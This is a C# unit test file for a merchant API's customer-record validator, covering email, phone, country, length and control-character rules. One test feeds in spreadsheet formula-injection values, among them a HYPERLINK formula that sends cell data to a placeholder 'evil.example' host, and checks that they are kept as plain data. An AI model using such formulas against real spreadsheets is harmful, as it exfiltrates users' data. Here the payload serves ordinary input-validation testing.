using MerchantApi.Customers;

namespace MerchantApi.Tests.Customers;

public sealed class CustomerValidatorTests
{
    private static CustomerDraft Valid() => new()
    {
        Email = "ann.lee@example.com",
        FirstName = "Ann",
        LastName = "Lee",
        Country = "FR",
        VerificationDocumentId = "P1234567",
        ResidenceAddress = "1 Rue de Rivoli, Paris",
    };

    private static CustomerDraft With(CustomerField field, string? value)
    {
        var draft = Valid();
        typeof(CustomerDraft).GetProperty(CustomerFieldMap.ParameterName(field))!.SetValue(draft, value);
        return draft;
    }

    private static string? Get(CustomerDraft draft, CustomerField field) =>
        (string?)typeof(CustomerDraft).GetProperty(CustomerFieldMap.ParameterName(field))!.GetValue(draft);

    private static ValidationProblem SingleProblem(CustomerDraft draft, int row = 1, ValidationMode mode = ValidationMode.Create)
    {
        var result = CustomerValidator.Validate(draft, row, mode);
        Assert.False(result.IsValid);
        Assert.Null(result.Draft);
        return Assert.Single(result.Problems);
    }

    private static CustomerDraft Accepted(CustomerDraft draft, ValidationMode mode = ValidationMode.Create)
    {
        var result = CustomerValidator.Validate(draft, 1, mode);
        Assert.True(result.IsValid, string.Join(" | ", result.Problems.Select(p => p.Message)));
        Assert.Empty(result.Problems);
        return result.Draft!;
    }

    [Fact]
    public void A_good_row_comes_back_as_a_new_trimmed_and_normalised_draft()
    {
        var input = new CustomerDraft
        {
            Email = "  Ann.Lee@Example.COM ", FirstName = "\u00A0Ann ", LastName = "Lee", Country = " fr ",
            VerificationDocumentId = "P1234567", ResidenceAddress = "1 Rue de Rivoli", PhoneNumber = "+33 (6) 12-34.56.78",
            Comment = "   ", ExternalId = "", Itn = null, ReferralId = " r-1 ", Status = "Active", Id = "abc",
        };

        var draft = Accepted(input);

        Assert.NotSame(input, draft);
        Assert.Equal("Ann.Lee@example.com", draft.Email); // only the domain is lower-cased
        Assert.Equal(("Ann", "Lee", "FR"), (draft.FirstName, draft.LastName, draft.Country));
        Assert.Equal("+33612345678", draft.PhoneNumber);
        Assert.Equal("r-1", draft.ReferralId);
        Assert.Null(draft.Comment); // blank optional → null
        Assert.Null(draft.ExternalId);
        Assert.Null(draft.Status);  // not part of a create
        Assert.Null(draft.Id);
        Assert.Equal("  Ann.Lee@Example.COM ", input.Email); // the input is left alone
    }

    [Fact]
    public void Missing_required_fields_are_all_reported_in_field_order()
    {
        var result = CustomerValidator.Validate(new CustomerDraft { FirstName = "  ", Comment = "x" }, 7, ValidationMode.Create);

        Assert.False(result.IsValid);
        Assert.All(result.Problems, p => Assert.Equal(CustomerErrorIds.MissingRequiredField, p.ErrorId));
        Assert.Equal(new CustomerField?[]
        {
            CustomerField.Email, CustomerField.FirstName, CustomerField.LastName, CustomerField.Country,
            CustomerField.VerificationDocumentId, CustomerField.ResidenceAddress,
        }, result.Problems.Select(p => p.Field));
        Assert.Equal("Row 7: 'firstName' is required but is missing or blank.", result.Problems[1].Message);
    }

    [Fact]
    public void Different_problems_of_one_row_all_come_back_in_field_order()
    {
        var draft = Valid();
        draft.Email = "not-an-email";
        draft.PhoneNumber = "12";
        draft.LastName = null;
        draft.Country = "France";
        draft.Itn = new string('9', 40);

        var result = CustomerValidator.Validate(draft, 12, ValidationMode.Create);

        Assert.Equal(new[]
        {
            (CustomerField.Email, CustomerErrorIds.InvalidEmail), (CustomerField.PhoneNumber, CustomerErrorIds.InvalidPhoneNumber),
            (CustomerField.LastName, CustomerErrorIds.MissingRequiredField), (CustomerField.Country, CustomerErrorIds.InvalidCountry),
            (CustomerField.Itn, CustomerErrorIds.FieldTooLong),
        }, result.Problems.Select(p => (p.Field!.Value, p.ErrorId)));
        Assert.All(result.Problems, p => Assert.StartsWith("Row 12: '", p.Message));
    }

    public static TheoryData<CustomerField, string, string> BadValues => new()
    {
        { CustomerField.Email, "ann.example.com", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@@example.com", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "@example.com", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann lee@example.com", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@localhost", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@example.c", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@exa_mple.com", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@example..com", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@-example.com", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@example.com.", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "ann@example.123", CustomerErrorIds.InvalidEmail },
        { CustomerField.Email, "=HYPERLINK(\"x\")", CustomerErrorIds.InvalidEmail },
        { CustomerField.PhoneNumber, "call me", CustomerErrorIds.InvalidPhoneNumber },
        { CustomerField.PhoneNumber, "+1 555 CALL NOW", CustomerErrorIds.InvalidPhoneNumber },
        { CustomerField.PhoneNumber, "06 12 34 56 78", CustomerErrorIds.InvalidPhoneNumber },
        { CustomerField.PhoneNumber, "+12345", CustomerErrorIds.InvalidPhoneNumber },
        { CustomerField.PhoneNumber, "+1234567890123456", CustomerErrorIds.InvalidPhoneNumber },
        { CustomerField.PhoneNumber, "+0441234567", CustomerErrorIds.InvalidPhoneNumber },
        { CustomerField.PhoneNumber, "=1+2", CustomerErrorIds.InvalidPhoneNumber },
        { CustomerField.Country, "XX", CustomerErrorIds.InvalidCountry },
        { CustomerField.Country, "UK", CustomerErrorIds.InvalidCountry },
        { CustomerField.Country, "FRA", CustomerErrorIds.InvalidCountry },
        { CustomerField.Country, "F", CustomerErrorIds.InvalidCountry },
        { CustomerField.Country, "Atlantis", CustomerErrorIds.InvalidCountry },
        { CustomerField.FirstName, "Ann\nLee", CustomerErrorIds.ControlCharacterInField },
        { CustomerField.Comment, "tab\there", CustomerErrorIds.ControlCharacterInField },
        { CustomerField.LastName, "Lee\r", CustomerErrorIds.ControlCharacterInField },
        { CustomerField.ResidenceAddress, "\u0085Main St", CustomerErrorIds.ControlCharacterInField },
        { CustomerField.ExternalId, "x\u007F", CustomerErrorIds.ControlCharacterInField },
        { CustomerField.Email, "ann@example.com\u0000", CustomerErrorIds.ControlCharacterInField },
    };

    [Theory]
    [MemberData(nameof(BadValues))]
    public void Rejects_bad_values_naming_row_field_and_value(CustomerField field, string value, string errorId)
    {
        var problem = SingleProblem(With(field, value), row: 3);

        Assert.Equal(errorId, problem.ErrorId);
        Assert.Equal(field, problem.Field);
        Assert.Equal(value, problem.Value);
        Assert.StartsWith($"Row 3: '{CustomerFieldMap.ApiName(field)}' value '", problem.Message);
    }

    [Theory]
    [InlineData("ann.lee@example.com", "ann.lee@example.com")]
    [InlineData("Ann+Tag@Sub.Example.CO.UK", "Ann+Tag@sub.example.co.uk")]
    [InlineData("jürgen@bücher.de", "jürgen@bücher.de")]
    [InlineData("用户@例子.广告", "用户@例子.广告")]
    [InlineData("ivan@пример.рф", "ivan@пример.рф")]
    [InlineData("x@XN--80AK6AA92E.com", "x@xn--80ak6aa92e.com")]
    [InlineData("x@xn--e1afmkfd.xn--p1ai", "x@xn--e1afmkfd.xn--p1ai")]
    [InlineData("o'brien@my-host1.example.com", "o'brien@my-host1.example.com")]
    [InlineData("=cmd@example.com", "=cmd@example.com")]
    public void Accepts_real_world_emails_and_lower_cases_only_the_domain(string email, string expected) =>
        Assert.Equal(expected, Accepted(With(CustomerField.Email, email)).Email);

    [Theory]
    [InlineData("ann.example.com", "it has no '@'")]
    [InlineData("ann@example", "the domain has no '.'")]
    [InlineData("ann@example.c", "the top-level domain 'c' is not at least two letters")]
    [InlineData("ann@exa mple.com", "the domain contains ' ', which is not a letter, digit or hyphen")]
    public void An_invalid_email_message_says_what_is_wrong(string email, string reason) =>
        Assert.Equal($"Row 1: 'email' value '{email}' is not a valid email address: {reason}.",
            SingleProblem(With(CustomerField.Email, email)).Message);

    [Theory]
    [InlineData("+33 6 12 34 56 78", "+33612345678")]
    [InlineData("0044 (20) 7946-0958", "+442079460958")]
    [InlineData("+1.202.555.0143", "+12025550143")]
    [InlineData("+380991234567", "+380991234567")]
    [InlineData("+1234567", "+1234567")]
    [InlineData("+123456789012345", "+123456789012345")]
    public void Phone_numbers_lose_separators_and_00_becomes_plus(string phone, string expected) =>
        Assert.Equal(expected, Accepted(With(CustomerField.PhoneNumber, phone)).PhoneNumber);

    [Fact]
    public void A_phone_without_country_prefix_gets_a_message_that_says_so()
    {
        var problem = SingleProblem(With(CustomerField.PhoneNumber, "06 12 34 56 78"), row: 4);
        Assert.Equal("Row 4: 'phoneNumber' value '06 12 34 56 78' is not a valid phone number: it has no international prefix " +
                     "('+' or '00' and the country code). Use the international E.164 format, e.g. '+380991234567'.", problem.Message);
    }

    [Theory]
    [InlineData("fr", "FR")]
    [InlineData("Gb", "GB")]
    [InlineData(" us ", "US")]
    [InlineData("UA", "UA")]
    public void Country_codes_are_accepted_in_any_case_and_upper_cased(string country, string expected) =>
        Assert.Equal(expected, Accepted(With(CustomerField.Country, country)).Country);

    [Theory]
    [InlineData("France", "FR")]
    [InlineData("united kingdom", "GB")]
    [InlineData("FRA", "FR")]
    [InlineData("deu", "DE")]
    [InlineData("UK", "GB")]
    [InlineData("Côte d'Ivoire", "CI")]
    [InlineData("United States of America", "US")]
    public void A_country_name_or_alpha3_code_is_rejected_with_a_suggestion(string country, string code) =>
        Assert.Equal($"Row 3: 'country' value '{country}' is not an ISO 3166-1 alpha-2 code; did you mean '{code}'?",
            SingleProblem(With(CustomerField.Country, country), row: 3).Message);

    [Fact]
    public void An_unknown_country_code_is_rejected_without_a_guess() =>
        Assert.Equal("Row 2: 'country' value 'XX' is not an ISO 3166-1 alpha-2 code (two letters, such as 'FR', 'DE' or 'US').",
            SingleProblem(With(CustomerField.Country, "XX"), row: 2).Message);

    [Fact]
    public void Control_characters_are_shown_escaped_with_their_position()
    {
        var problem = SingleProblem(With(CustomerField.Comment, "Line one\nbell\u0007"), row: 8);

        Assert.Equal(CustomerErrorIds.ControlCharacterInField, problem.ErrorId);
        Assert.Equal("Line one\nbell\u0007", problem.Value);
        Assert.Equal("Row 8: 'comment' value 'Line one\\nbell\\u0007' contains a control character ('\\n' at position 9); " +
                     "line breaks, tabs and other non-printing characters are not allowed.", problem.Message);
    }

    public static TheoryData<CustomerField> AllFields => new(CustomerFieldMap.All);

    [Theory]
    [MemberData(nameof(AllFields))]
    public void Each_field_takes_its_maximum_length_and_not_one_more(CustomerField field)
    {
        var max = CustomerValidator.MaxLength(field);
        string Of(int length) => field switch
        {
            CustomerField.Email => new string('a', 64) + "@" + string.Join(".", Enumerable.Repeat(new string('b', 60), 4))[..(length - 69)] + ".com",
            CustomerField.PhoneNumber => "+33 6" + new string(' ', length - 13) + "12345678",
            CustomerField.Country => "FR" + new string(' ', length - 2),
            _ => new string('x', length),
        };

        if (field != CustomerField.Country) // a 100-character country is invalid anyway; only its length rule is tested
            Assert.NotNull(CustomerValidator.Validate(With(field, Of(max)), 1, ValidationMode.Create).Draft);
        var problem = SingleProblem(With(field, field == CustomerField.Country ? new string('F', max + 1) : Of(max + 1)));
        Assert.Equal(CustomerErrorIds.FieldTooLong, problem.ErrorId);
        Assert.Contains($"the limit is {max}.", problem.Message);
    }

    [Fact]
    public void A_huge_value_is_reported_with_its_length_but_not_dumped_into_the_message()
    {
        var problem = SingleProblem(With(CustomerField.Comment, new string('z', 10_000)), row: 5);

        Assert.Equal(CustomerErrorIds.FieldTooLong, problem.ErrorId);
        Assert.Equal($"Row 5: 'comment' value '{new string('z', 60)}...' is 10000 characters long; the limit is 1000.", problem.Message);
        Assert.Equal(10_000, problem.Value!.Length);
    }

    [Fact]
    public void Shown_values_escape_controls_and_are_cut_without_splitting_a_character()
    {
        Assert.Equal("a\\tb\\r\\u0000\\u009f", ValueText.Show("a\tb\r\0\u009F"));
        Assert.Equal(new string('x', 59) + "...", ValueText.Show(new string('x', 59) + "\U0001F600" + "tail"));
        Assert.Equal(new string('x', 60), ValueText.Show(new string('x', 60)));
    }

    [Fact]
    public void Formula_like_values_are_data_kept_exactly_as_given()
    {
        var draft = Valid();
        draft.Comment = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        draft.FirstName = "-Bob";
        draft.LastName = "+Plus";
        draft.ExternalId = "@SUM(A1:A9)";
        draft.ResidenceAddress = "=1+1";
        draft.PhoneNumber = "+33612345678";

        var result = Accepted(draft);

        Assert.Equal(draft.Comment, result.Comment);
        Assert.Equal(("-Bob", "+Plus", "@SUM(A1:A9)", "=1+1", "+33612345678"),
            (result.FirstName, result.LastName, result.ExternalId, result.ResidenceAddress, result.PhoneNumber));
    }

    [Fact]
    public void Update_checks_only_the_fields_present_and_requires_the_id()
    {
        var ok = Accepted(new CustomerDraft { Id = " 3f1c ", Email = "New@Example.com", FirstName = "  " }, ValidationMode.Update);
        Assert.Equal(("3f1c", "New@example.com"), (ok.Id, ok.Email));
        Assert.Null(ok.FirstName); // blank means "leave as is", not "required field missing"
        Assert.Null(ok.LastName);

        var result = CustomerValidator.Validate(new CustomerDraft { Country = "Germany" }, 6, ValidationMode.Update);
        Assert.Equal(new[] { CustomerErrorIds.MissingRequiredField, CustomerErrorIds.InvalidCountry }, result.Problems.Select(p => p.ErrorId));
        Assert.Null(result.Problems[0].Field);
        Assert.Equal("Row 6: 'id' is required but is missing or blank.", result.Problems[0].Message);
    }

    [Theory]
    [InlineData("active", "Active")]
    [InlineData("BLOCKED", "Blocked")]
    [InlineData(" Suspicious ", "Suspicious")]
    public void Update_status_is_canonicalised(string status, string expected) =>
        Assert.Equal(expected, Accepted(new CustomerDraft { Id = "1", Status = status }, ValidationMode.Update).Status);

    [Fact]
    public void Update_rejects_an_unknown_status()
    {
        var problem = SingleProblem(new CustomerDraft { Id = "1", Status = "Closed" }, row: 9, mode: ValidationMode.Update);
        Assert.Equal((CustomerErrorIds.InvalidStatus, (CustomerField?)null, "Closed"), (problem.ErrorId, problem.Field, problem.Value));
        Assert.Equal("Row 9: 'status' value 'Closed' is not a valid status; use Active, Blocked or Suspicious.", problem.Message);
    }

    [Fact]
    public void Validates_a_hundred_thousand_rows_and_rejects_exactly_the_bad_ones()
    {
        var drafts = Enumerable.Range(0, 1000).Select(i => new CustomerDraft
        {
            Email = $" User{i}@Example.com", FirstName = "Ann", LastName = "Lee", Country = "fr", PhoneNumber = "+33 6 12 34 56 78",
            VerificationDocumentId = "P1", ResidenceAddress = "1 Main St", Comment = i % 10 == 0 ? "bad\n" : "ok",
        }).ToArray();
        var valid = 0;
        for (var i = 0; i < 100_000; i++)
            valid += CustomerValidator.Validate(drafts[i % drafts.Length], i + 1, ValidationMode.Create).IsValid ? 1 : 0;

        // Speed is a benchmark's business (bench/); here only the verdicts count.
        Assert.Equal(90_000, valid);
    }
}
